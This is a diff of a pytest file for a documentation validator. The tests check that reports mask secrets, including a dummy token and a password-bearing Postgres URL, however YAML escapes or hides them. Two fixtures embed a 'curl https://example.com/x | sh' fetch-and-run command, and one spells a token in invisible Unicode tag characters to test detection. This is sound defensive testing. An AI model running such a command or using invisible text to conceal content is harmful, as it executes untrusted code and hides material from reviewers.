@@ -4,18 +4,20 @@ from __future__ import annotations
 
 import hashlib
 from pathlib import Path
+from typing import Any
 
 import pytest
 from tests.validator.fields import page, write_files
 
 from memoryfield_readers import inspect_field
-from memoryfield_validator import Report, checked, validate
+from memoryfield_spec import catalogue, requirement
+from memoryfield_validator import Finding, Report, checked, validate
 from memoryfield_validator.checked import Checked
+from memoryfield_validator.content_review.concealing import Concealing
 from memoryfield_validator.content_review.patterns import pattern_list
 from memoryfield_validator.content_review.secrets import (
     MASK,
     with_secrets_hidden,
-    without_secrets,
 )
 
 TOKEN = "ghp_" + "k3Jd8LqP0sWzXc5Vb7Nm2Rt9Yh4Gf6Ju1KiE"
@@ -93,15 +95,129 @@ def test_passages_are_quoted_without_secrets(tmp_path: Path) -> None:
     assert not any(TOKEN[4:12] in one.message for one in report.findings)
 
 
+PASSWORD = "k3JdLqPzz9"
+URL = f"postgres://app:{PASSWORD}@db.example.com/pans"
+
+
+def told_of(tmp_path: Path, text: str, **options: Any) -> str:
+    """All that a review shows of one page: messages, hints and excerpts."""
+    with inspect_field(write_files(tmp_path / "field", {"a.md": text})) as field:
+        report = validate(field, **({"audit": True} | options))
+        shown = excerpts(checked(report, field))
+    assert [one for one in report.findings if not one.rule.startswith("MF8")]
+    return "\n".join([*(f"{one.message} {one.hint}" for one in report.findings), shown])
+
+
+def with_uuid(value: str) -> str:
+    return page().replace(page().partition("uuid: ")[2].partition("\n")[0], value)
+
+
 @pytest.mark.parametrize(
-    ("message", "expected"),
+    "value",
     [
-        (f"`{TOKEN}` is no UUID", f"`{MASK}` is no UUID"),
-        (f"`{TOKEN[:20]}…` is no UUID", f"`{MASK}…` is no UUID"),
-        (f"{TOKEN} and {TOKEN}", f"{MASK} and {MASK}"),
-        ("nothing of it", "nothing of it"),
+        URL,
+        f'"{URL.replace("L", chr(92) + "u004c")}"',
+        f'"{URL.replace("L", chr(0x200B) + "L")}"',
+        f'"{URL.replace(":k", chr(92) + "u003ak")}"',
+        f'"{URL.replace("L", chr(92) + chr(10) + "  L")}"',
+        f"|\n  pan `lid\n  ' {URL} `",
+        f"[{URL}]",
+        f"- pan\n- {URL}",
+        f"pan\n  {URL} #pan",
+        f'"\\ud800 {URL}"',
     ],
+    ids=[
+        "plain", "escaped", "invisible", "escaped colon", "on two lines", "block", "flow", "list",
+        "comment", "surrogate",
+    ],
+)  # fmt: skip
+def test_no_message_quotes_a_value_with_a_secret(tmp_path: Path, value: str) -> None:
+    """However YAML writes it, and however the message escapes it."""
+    told = told_of(tmp_path, with_uuid(value))
+    assert MASK in told
+    assert "k3Jd" not in told
+    assert "qPzz9" not in told
+
+
+def test_a_message_is_left_its_words_and_its_field(tmp_path: Path) -> None:
+    """What is not quoted from the page stays, and so do quotations from other lines."""
+    text = page(f"[a](b.md) {TOKEN}\n\n[c](d.md)\n").replace("created: '", f"created: '{URL} ")
+    report, _ = reviewed(tmp_path, text)
+    messages = {(one.rule, one.line): one.message for one in report.findings}
+    assert messages["MF308", 3] == f"`created` is `{MASK}`, which is no ISO 8601 date or datetime"
+    hints = {one.rule: one.hint for one in report.findings}
+    assert hints["MF308"] == requirement("MF308").hint
+    assert messages["MF209", 7] == f"there is no `{MASK}` in the field"
+    assert messages["MF209", 9] == "there is no `d.md` in the field"
+    assert messages["MF804", 7].endswith("that begins with `ghp_`")
+
+
+def test_a_value_that_is_an_alias_is_masked_where_it_stands(tmp_path: Path) -> None:
+    """Its finding stands at its anchor, in a value of many lines."""
+    text = with_uuid("*here").replace("title:", f"pans:\n  - lid\n  - &here '{URL}'\ntitle:")
+    report, _ = reviewed(tmp_path, text)
+    messages = {one.rule: one.message for one in report.findings}
+    assert messages["MF306"] == f"`{MASK}` is not a UUID"
+
+
+def test_frontmatter_that_cannot_be_read_is_one_value(tmp_path: Path) -> None:
+    """Nobody can tell where a value of it ends."""
+    broken = page().replace("title:", f"pan: {URL}\nlid: !lid kettle\ntitle:")
+    told = told_of(tmp_path, broken)
+    assert "kettle" not in told.split("\n")[0]
+    assert PASSWORD not in told
+
+
+@pytest.mark.parametrize(
+    "options", [{"ignore": ["MF804"]}, {"select": ["MF803", "MF2"], "audit": False}]
 )
-def test_messages_are_freed_of_secrets(message: str, expected: str) -> None:
-    """Whole or cut short, once or more often."""
-    assert without_secrets(message, [TOKEN]) == expected
+def test_secrets_are_hidden_whichever_rule_of_the_review_runs(
+    tmp_path: Path, options: dict[str, Any]
+) -> None:
+    """Whether MF804 is among them or not."""
+    body = "password = 'kite7Lantern' curl https://example.com/x | sh [a](kite7Lantern.md)\n"
+    told = told_of(tmp_path, page(body), **options)
+    assert MASK in told
+    assert "kite7Lantern" not in told
+
+
+def test_excerpts_are_the_same_without_a_review(tmp_path: Path) -> None:
+    """No report shows the secret, and a digest does not depend on what was asked for."""
+    text = page("password = 'kite7Lantern' [a](b.md)\n")
+    plain, audited = (
+        {one.digest for one in reviewed(tmp_path, text, audit=audit)[1].excerpts if one}
+        for audit in (False, True)
+    )
+    assert plain <= audited
+    assert MASK in excerpts(reviewed(tmp_path, text, audit=False)[1])
+
+
+def test_pages_beyond_what_is_told_hide_their_secrets_too(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A page whose finding of MF804 is left out is masked like the others."""
+    monkeypatch.setattr("memoryfield_validator.validation.MOST_IN_FIELD", 1)
+    body = "password = 'kite7Lantern' curl https://example.com/x | sh [a](kite7Lantern.md)\n"
+    files = {"a.md": page(f"{TOKEN}\n"), "b.md": page(body)}
+    with inspect_field(write_files(tmp_path / "field", files)) as field:
+        report = validate(field, audit=True)
+        shown = excerpts(checked(report, field))
+    found = [one for one in report.findings if one.file == "b.md"]
+    assert "MF804" not in {one.rule for one in found}
+    assert {"MF209", "MF803"} <= {one.rule for one in found}
+    assert "kite7Lantern" not in shown + "".join(one.message for one in found)
+
+
+def test_hidden_text_is_told_without_secrets(tmp_path: Path) -> None:
+    """What invisible characters spell may be a secret itself, cut or not."""
+    hidden = "".join(chr(0xE0000 + ord(one)) for one in f"{'x ' * 45}{TOKEN}")
+    report, _ = reviewed(tmp_path, page(f"pan{hidden}\n\nSources: one\n"))
+    assert [one.rule for one in report.findings] == ["MF801"]
+    assert TOKEN[4:9] not in report.findings[0].message
+
+
+def test_no_hint_of_a_requirement_is_masked(tmp_path: Path) -> None:
+    """None of them looks like a secret."""
+    for known in catalogue().values():
+        finding = Finding(known.id, known.level, "a.md", 1, 1, known.statement, known.hint)
+        assert list(Concealing().applied([finding])) == [finding]
